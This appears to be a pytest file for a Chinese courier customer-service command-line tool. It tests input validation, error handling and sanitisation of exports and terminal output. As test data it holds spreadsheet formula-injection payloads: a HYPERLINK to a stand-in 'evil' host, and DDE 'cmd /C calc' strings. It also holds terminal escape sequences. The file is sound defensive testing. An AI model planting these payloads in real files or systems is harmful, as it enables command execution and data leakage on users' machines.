"""Issue 8 through the real program: the clock's range, a closed pipe, a busy database,
formula text in every export, look-alike digits, a real bug's trace in the log."""

from __future__ import annotations

import csv
import json
import sqlite3
import subprocess
import sys
import zipfile

import pytest

from kefu_tui.services.export import REPORTS

from tests.cli.inprocess import run_kefu

NOW = "2026-11-24T09:30:00+08:00"
NO = "518023259997"
FORMULA = '=HYPERLINK("http://evil/"&A1,"查看")'


def kefu(db, *args, now=NOW):
    """In this process (tests/cli/inprocess.py); the closed pipe below needs a process."""
    return run_kefu(["--db", str(db), "--now", now, "--user", "=cmd|' /C calc'!A0", *map(str, args)])


def one_line_no_trace(r):
    assert "Traceback" not in r.stderr and "Traceback" not in r.stdout
    assert len(r.stderr.strip().splitlines()) <= 1, r.stderr


@pytest.fixture
def loaded(db_path, samples):
    r = kefu(db_path, "import", samples / "扫描记录_20261123.csv", samples / "运单导出_20261123.xlsx",
             samples / "派件清单_淮滨_20261123.csv")
    assert r.returncode == 0, r.stderr
    return db_path


@pytest.mark.parametrize("now", ["0001-01-01T00:00:00", "9999-12-31T23:00:00+08:00", "1999-12-31T23:59:59+08:00",
                                 "2100-01-01T00:00:00+08:00", "-1", "99999999999999999999", "2026-02-30T08:00:00",
                                 "2026-13-01T00:00:00", "\x1b[2J"])
def test_a_clock_outside_2000_2100_or_unreadable_is_exit_2(db_path, now):
    r = kefu(db_path, "ticket", "list", now=now)
    assert r.returncode == 2, r.stderr
    one_line_no_trace(r)
    assert "--now" in r.stderr
    assert not db_path.exists()  # refused before the database is touched


def test_full_width_and_arabic_digits_register_one_ticket(loaded):
    full = NO.translate(str.maketrans("0123456789", "０１２３４５６７８９"))
    arabic = NO.translate(str.maketrans("0123456789", "٠١٢٣٤٥٦٧٨٩"))
    assert kefu(loaded, "ticket", "add", "--type", "phone", "--text", "x", full).returncode == 0
    r = kefu(loaded, "ticket", "add", "--type", "phone", "--text", "x", arabic, "--json")
    assert r.returncode == 0 and '"created": 0' in r.stdout, r.stdout
    with sqlite3.connect(loaded) as c:
        assert c.execute("SELECT DISTINCT waybill FROM tickets").fetchall() == [(NO,)]
    r = kefu(loaded, "track", arabic)
    assert r.stdout.startswith(NO) and "未知单号" not in r.stdout.splitlines()[0]


def test_track_into_a_closed_pipe_is_a_normal_end(loaded):
    numbers = "\n".join(str(518023259000 + i) for i in range(3000))
    p = subprocess.Popen([sys.executable, "-m", "kefu_tui", "--db", str(loaded), "--now", NOW, "track", "-"],
                         stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    p.stdin.write(numbers.encode())
    p.stdin.close()
    p.stdout.readline()  # `| head -1`
    p.stdout.close()
    err = p.stderr.read().decode()
    assert p.wait(timeout=60) == 0, err
    assert err == ""


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_no_export_holds_a_live_formula(loaded, tmp_path, suffix):
    assert kefu(loaded, "ticket", "add", "--type", "phone", "--text", FORMULA, NO).returncode == 0
    assert kefu(loaded, "ticket", "note", NO, "@SUM(1+1)*cmd|' /C calc'!A0").returncode == 0
    for report in REPORTS:
        out = tmp_path / f"{report}{suffix}"
        r = kefu(loaded, "export", report, "-o", out)
        assert r.returncode == 0, (report, r.stderr)
        if suffix == ".csv":
            with open(out, encoding="utf-8-sig", newline="") as fh:
                for row in csv.reader(fh):
                    assert not any(c.startswith(("=", "+", "@", "\t", "\r")) for c in row), (report, row)
        else:
            with zipfile.ZipFile(out) as z:
                for name in z.namelist():
                    if name.startswith("xl/worksheets/"):
                        xml = z.read(name).decode()
                        assert "<f>" not in xml and "<f " not in xml, report
    if suffix == ".csv":
        text = (tmp_path / "tickets.csv").read_text(encoding="utf-8-sig")
        assert "'=HYPERLINK" in text


def test_a_database_busy_longer_than_the_wait_writes_nothing(loaded, monkeypatch, capsys):
    from kefu_tui import cli
    from kefu_tui.store import db

    monkeypatch.setattr(db, "BUSY_TIMEOUT_MS", 200)
    holder = sqlite3.connect(loaded, isolation_level=None)
    holder.execute("BEGIN IMMEDIATE")
    try:
        code = cli.main(["--db", str(loaded), "--now", NOW, "ticket", "add", "--type", "phone", "--text", "x", NO])
    finally:
        holder.execute("ROLLBACK")
        holder.close()
    err = capsys.readouterr().err
    assert code == 1
    assert "数据库正忙" in err and len(err.strip().splitlines()) == 1
    with sqlite3.connect(loaded) as c:
        assert c.execute("SELECT count(*) FROM tickets").fetchone()[0] == 0


def test_a_real_bug_goes_to_the_log_with_one_line_on_screen(loaded, monkeypatch, capsys, tmp_path):
    from kefu_tui import cli
    from kefu_tui.cli import track

    def broken(ctx, args):
        raise ZeroDivisionError("a bug")

    monkeypatch.setenv("KEFU_DATA_DIR", str(tmp_path / "data"))
    monkeypatch.setattr(track, "run", broken)
    code = cli.main(["--db", str(loaded), "--now", NOW, "track", NO])
    err = capsys.readouterr().err
    assert code == 1
    assert err.count("\n") == 1 and "内部错误" in err and "ZeroDivisionError" in err
    log = (tmp_path / "data" / "logs" / "kefu-errors.log").read_text()
    assert "Traceback" in log and "a bug" in log and str(tmp_path / "data") in err


def test_escape_sequences_in_an_imported_file_never_reach_the_terminal(db_path, samples, tmp_path):
    """A scan file whose site and scanner fields carry terminal escapes (clear screen, a
    fake prompt, a bidi override): imported, tracked, listed — no control character printed."""
    rows = (samples / "扫描记录_20261123.csv").read_bytes().decode("gbk").splitlines()
    head, first = rows[0], rows[1].split(",")
    first[4] = "信阳\x1b[2J\x1b]0;pwned\x07分部"
    first[7] = "王\u202e五\x9b31m"
    hostile = tmp_path / "扫描记录_hostile.csv"
    hostile.write_bytes(("\n".join([head, ",".join(first)]) + "\n").encode("gbk", "replace"))
    assert kefu(db_path, "import", hostile).returncode == 0
    for args in (["track", first[2]], ["track", "--json", first[2]], ["monitor"]):
        r = kefu(db_path, *args)
        assert r.returncode in (0, 1), r.stderr
        for text in (r.stdout, r.stderr):
            assert not any(c in text for c in "\x1b\x07\x9b\u202e"), (args, text)
    assert "信阳" in kefu(db_path, "track", first[2]).stdout
    # nor the workstation, which draws what the database holds: the cells were cleaned on import
    stored = sqlite3.connect(db_path).execute("SELECT site, operator FROM scans WHERE waybill = ?",
                                              (first[2],)).fetchall()
    assert ("信阳[2J]0;pwned分部", "王?五?31m") in stored  # what is left is harmless text


def test_an_xlsx_date_cell_out_of_range_refuses_its_row_only(db_path, samples, tmp_path):
    """A date-formatted cell holding 1e12 (openpyxl: out of range) and one before 1900:
    those two rows are refused with the reason, the other rows are imported, and stderr
    stays empty (no library warning on the clerk's terminal)."""
    import openpyxl

    wb = openpyxl.load_workbook(samples / "运单导出_20261123.xlsx")
    ws = wb.active
    total = ws.max_row - 1
    for row, value in ((2, 1e12), (3, -1)):
        ws.cell(row, 3).value = value
        ws.cell(row, 3).number_format = "yyyy-mm-dd hh:mm"
    bad = tmp_path / "运单导出_bad.xlsx"
    wb.save(bad)
    # a process of its own: pytest would catch the warning before it reached stderr
    r = subprocess.run([sys.executable, "-m", "kefu_tui", "--db", str(db_path), "--now", NOW, "import",
                        str(bad), "--json"], capture_output=True, text=True, timeout=60)
    assert r.returncode == 0 and r.stderr == ""
    got = json.loads(r.stdout)
    [f] = got["files"]
    assert f["new"] == total - 2 and [x["row"] for x in f["rejected"]] == [2, 3]


@pytest.mark.parametrize("argv", [["handover", "done"], ["complaint", "step", "{id}", "done", "--text", "x"]],
                         ids=["handover-done", "complaint-step"])
@pytest.mark.parametrize("record", ["99999999999999999999", "-5"])
def test_every_record_number_argument_is_read_as_one_issue_15_item_8(db_path, argv, record):
    """Second look at issue 15 item 8: `unidentified return 99999999999999999999` was
    mended, but `handover done` and `complaint step` with that number still said "Python
    int too large to convert to SQLite INTEGER"; -5 was looked up as note #-5."""
    args = [a.replace("{id}", record) for a in argv] + ([] if "{id}" in argv else [record])
    r = kefu(db_path, *args)
    assert r.returncode == 2, r.stderr
    one_line_no_trace(r)
    assert "不是登记编号" in r.stderr and "SQLite" not in r.stderr, r.stderr
